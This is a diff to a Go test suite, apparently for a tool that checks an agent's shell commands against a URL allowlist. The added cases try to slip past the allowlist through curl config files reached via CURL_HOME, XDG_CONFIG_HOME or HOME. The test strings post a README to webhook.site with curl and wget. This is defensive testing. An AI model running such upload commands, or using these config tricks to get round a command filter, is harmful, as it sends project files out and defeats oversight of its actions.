@@ -75,7 +75,7 @@ func TestAllowlistHost(t *testing.T) {
 // target than the URL's path (curl --request-target, a method word with a
 // path, curl's URL globbing); a host-only entry still does. Both modes.
 func TestAllowlistPathRequestTarget(t *testing.T) {
-	_, proj := scriptWorld(t, map[string]string{"README": "hi\n"})
+	_, proj := scriptWorld(t, map[string]string{"README": "hi\n", "ch/.curlrc": "request-target = \"/abc\"\n", "ok/.curlrc": "silent\n"})
 	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
 		for _, tc := range []struct {
 			allow, cmd string
@@ -90,6 +90,15 @@ func TestAllowlistPathRequestTarget(t *testing.T) {
 			{"https://webhook.site/docs", "curl -X POST -d @README https://webhook.site/docs/x", false},
 			{"https://webhook.site/docs", "wget --method='POST /abc' --body-file=README https://webhook.site/docs/x", true},
 			{"webhook.site", "curl --request-target /abc -d @README https://webhook.site/docs/x", false},
+			// Review 16b F9: the .curlrc curl reads from CURL_HOME and the like.
+			{"https://webhook.site/docs", "CURL_HOME=ch curl -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "XDG_CONFIG_HOME=ch curl -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "export CURL_HOME=ch; curl -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "env HOME=ch curl -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "CURL_HOME=$(mktemp -d) curl -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "CURL_HOME=ch curl -q -d @README https://webhook.site/docs/x", false},
+			{"https://webhook.site/docs", "CURL_HOME=ok curl -d @README https://webhook.site/docs/x", false},
+			{"https://webhook.site/docs", "CURL_HOME=none curl -d @README https://webhook.site/docs/x", false},
 		} {
 			p := realPolicy(t, `{"bash":{"match":"`+mode+`"},"urls":{"allowlist":["`+tc.allow+`"]}}`)
 			code, _, stderr, _ := runReal(t, p, bashPayload(t, proj, tc.cmd))
